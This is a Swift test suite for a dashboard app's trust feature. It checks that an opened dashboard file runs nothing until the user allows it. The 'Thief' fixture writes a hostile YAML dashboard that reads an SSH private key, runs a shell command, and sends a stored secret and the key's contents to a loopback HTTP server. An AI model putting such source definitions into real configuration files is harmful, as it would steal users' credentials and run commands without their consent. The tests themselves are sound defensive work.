import Foundation
import JMESPath
import TestSupport
import Testing

@testable import cardwall

/// A file that is opened isn’t a file that is run.
@Suite("Trust in commands")
final class TrustCommandTests: CommandTestCase {
  /// A dashboard that takes everything that it can get.
  private final class Thief {
    let folder: TemporaryFolder
    let file: String
    let server: LoopbackServer
    let other: LoopbackServer
    let bus: SessionBus

    init(state: String) throws {
      folder = try TemporaryFolder()
      server = try LoopbackServer(otherwise: .reply("200 OK", body: Array("1".utf8)))
      other = try LoopbackServer(otherwise: .reply("200 OK", body: Array("1".utf8)))
      try folder.write("TOPSECRET", to: "config/cardwall/secrets/shop")
      try FileManager.default.setAttributes(
        [.posixPermissions: 0o600], ofItemAtPath: folder.path("config/cardwall/secrets/shop"))
      try folder.write("PRIVATE", to: "home/.ssh/id_ed25519")
      file = folder.path("photos/holiday.cardwall.yaml")
      var environment = ["XDG_STATE_HOME": state, "GTK_A11Y": "none", "LC_ALL": "C.UTF-8"]
      environment["HOME"] = folder.path("home")
      environment["XDG_CONFIG_HOME"] = folder.path("config")
      bus = try SessionBus(starting: CommandTestCase.program, environment: environment)
      try write()
    }

    var environment: [String: String?] {
      [
        "DBUS_SESSION_BUS_ADDRESS": bus.address, "GTK_A11Y": "none",
        "HOME": folder.path("home"), "XDG_CONFIG_HOME": folder.path("config"),
      ]
    }

    /// Writes the dashboard with further sources, each of which has a card.
    func write(to path: String? = nil, also sources: [String: String] = [:]) throws {
      let cards = (["run", "steal", "steal2"] + sources.keys.sorted()).map {
        "{ id: \($0), source: \($0), header: \($0) }"
      }
      let text = """
        version: 1
        title: Holiday photos
        sources:
          key: { type: file, path: "${env:HOME}/.ssh/id_ed25519", format: text }
          run: { type: command, run: [sh, -c, "touch ${env:HOME}/pwned; echo ok"], format: text }
          steal: { type: http, url: "\(server.address("/collect?s=${secret:shop}"))" }
          steal2: { type: http, url: "\(server.address("/collect?k=${choice.x}"))" }
        \(sources.sorted { $0.key < $1.key }.map { "  \($0): \($1)" }.joined(separator: "\n"))
        pages:
          - id: home
            choices: [{ id: x, title: X, type: select, source: key, options: "[{ value: join('|', @), title: 'a' }]" }]
            sections: [{ cards: [\(cards.joined(separator: ", "))] }]
        """
      try folder.write(text, to: path ?? "photos/holiday.cardwall.yaml")
    }

    func exists(_ name: String) -> Bool {
      FileManager.default.fileExists(atPath: folder.path("home/\(name)"))
    }

    /// What has reached the thief.
    var loot: Set<String> {
      Set((server.paths + other.paths) + (exists("pwned") ? ["ran"] : []))
    }

    func forget() throws { try FileManager.default.removeItem(atPath: folder.path("home/pwned")) }
  }

  /// Returns the failures of the sources by their names, once all have been tried.
  private func failures(_ thief: Thief) throws -> [String: String] {
    // While the program starts, there is nothing to print.
    let output = try run(["status", "--json"], environment: thief.environment).output
    guard let status = try? JSONValue(parsing: output.utf8) else { return [:] }
    var failures: [String: String] = [:]
    for source in status["dashboards"]?.array?.last?["sources"]?.array ?? [] {
      failures[source["id"]?.string ?? ""] = source["error"]?.string ?? ""
    }
    return failures
  }

  private func wait(
    _ what: String, at location: Testing.SourceLocation = #_sourceLocation,
    until isTrue: () throws -> Bool
  ) throws {
    for _ in 0..<200 where try !isTrue() { usleep(50_000) }
    #expect(try isTrue(), "\(what)", sourceLocation: location)
  }

  private static let refusal = "this dashboard isn’t allowed to do that yet"

  @Test("P18: a file that was sent does nothing before somebody has allowed it", .requiresDisplay)
  func untrusted() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let everything: Set = ["/collect?s=TOPSECRET", "/collect?k=PRIVATE", "ran"]
    var program = try start([thief.file], environment: thief.environment)
    try wait("all sources are off") {
      let found = try failures(thief)
      return ["run", "steal", "steal2"].allSatisfy { found[$0] == Self.refusal }
    }
    #expect(thief.loot.isEmpty)

    try thief.bus.activate("allow", of: "/window/1")
    try wait("it does everything after that") { thief.loot == everything }
    try thief.bus.activate("quit")
    #expect(try program.result().status == 0)

    try thief.forget()
    program = try start([thief.file], environment: thief.environment)
    try wait("a restart asks nothing") { thief.exists("pwned") }
    try wait("its window is there") { try failures(thief)["run"] == "" }

    let other = thief.other.address("/${secret:shop}")
    try thief.write(also: [
      "later": "{ type: command, run: [touch, \"${env:HOME}/later\"], format: text }",
      "more": "{ type: http, url: \"\(other)\" }",
    ])
    try wait("an edit asks nothing") { thief.exists("later") }
    try wait("but for a new server of a secret") { try failures(thief)["more"] == Self.refusal }
    #expect(thief.other.paths.isEmpty)
    try thief.bus.activate("allow", of: "/window/1")
    try wait("which can be allowed") { thief.other.paths == ["/TOPSECRET"] }
    try thief.bus.activate("quit")
    #expect(try program.result().status == 0)
  }

  @Test("P18: a double click runs nothing, nor does a copy of what was allowed", .requiresDisplay)
  func openedByDesktop() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let address = URL(fileURLWithPath: thief.file).absoluteString
    try thief.bus.call("", "org.freedesktop.Application.Open", "['\(address)']", "{}")
    try wait("its sources are off") { try failures(thief)["run"] == Self.refusal }
    #expect(thief.loot.isEmpty)
    try thief.bus.activate("allow", of: "/window/1")
    try wait("it was allowed") { thief.exists("pwned") }
    try thief.forget()
    try thief.write(to: "elsewhere/holiday.cardwall.yaml")
    let copy = URL(fileURLWithPath: thief.folder.path("elsewhere/holiday.cardwall.yaml"))
    try thief.bus.call("", "org.freedesktop.Application.Open", "['\(copy.absoluteString)']", "{}")
    try wait("the copy is off") { try failures(thief)["run"] == Self.refusal }
    #expect(!thief.exists("pwned"))
    try thief.bus.activate("quit")
  }

  @Test("--trust allows everything for a run, also of a window that is open", .requiresDisplay)
  func trustedStart() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let program = try start([thief.file], environment: thief.environment)
    try wait("its sources are off") { try failures(thief)["run"] == Self.refusal }
    #expect(
      try run([thief.file, "--trust"], environment: thief.environment).status == 0)
    try wait("they are on") { thief.loot.count == 3 }
    try thief.bus.activate("quit")
    #expect(try program.result().status == 0)
  }

  @Test("A kiosk without --trust has nobody to ask, and does nothing", .requiresDisplay)
  func kioskWithoutTrust() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let program = try start(["--kiosk", thief.file], environment: thief.environment)
    try wait("its sources are off") { try failures(thief)["run"] == Self.refusal }
    try thief.bus.activate("allow", of: "/window/1")
    try wait("it is still there") { try failures(thief)["run"] == Self.refusal }
    try thief.bus.activate("quit")
    #expect(try program.result().status == 0)
    #expect(thief.loot.isEmpty)
    let ledger = state.path + "/cardwall/trust.json"
    #expect(!FileManager.default.fileExists(atPath: ledger), "nothing was allowed")
  }

  @Test("check --abilities prints what a file can do, and check, print and schema do nothing of it")
  func abilities() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let result = try run(
      ["check", "--abilities", thief.file], display: false, environment: thief.environment)
    let (home, port) = (thief.folder.path("home"), thief.server.port)
    let real = URL(fileURLWithPath: home).resolvingSymlinksInPath().path
    #expect(
      result.output
        == """
        loads data from localhost:\(port)
        reads \(real)/.ssh/id_ed25519
        reads the variable HOME of the environment
        runs sh -c "touch \(home)/pwned; echo ok"
        sends the secret “shop” to localhost:\(port)
        sends what “key” has to localhost:\(port)

        """.replacingOccurrences(of: "localhost", with: "127.0.0.1"))
    let json = try JSONValue(
      parsing: run(
        ["check", "--abilities", "--format", "json", thief.file], display: false,
        environment: thief.environment
      ).output)
    #expect(json.array?.count == 6)
    for command in ["check", "print"] {
      _ = try run([command, thief.file], display: false, environment: thief.environment)
    }
    #expect(thief.loot.isEmpty)
  }

  @Test("What cardwall new has written is allowed", .requiresDisplay)
  func written() throws {
    let thief = try Thief(state: state.path)
    defer { thief.bus.stop() }
    let file = thief.folder.path("mine.yaml")
    #expect(try run(["new", file], display: false, environment: thief.environment).status == 0)
    try FileManager.default.removeItem(atPath: file)
    try thief.write(to: "mine.yaml")
    let program = try start([file], environment: thief.environment)
    try wait("it runs") { thief.exists("pwned") }
    try wait("a secret is asked about") { try failures(thief)["steal"] == Self.refusal }
    try thief.bus.activate("quit")
    #expect(try program.result().status == 0)
  }
}
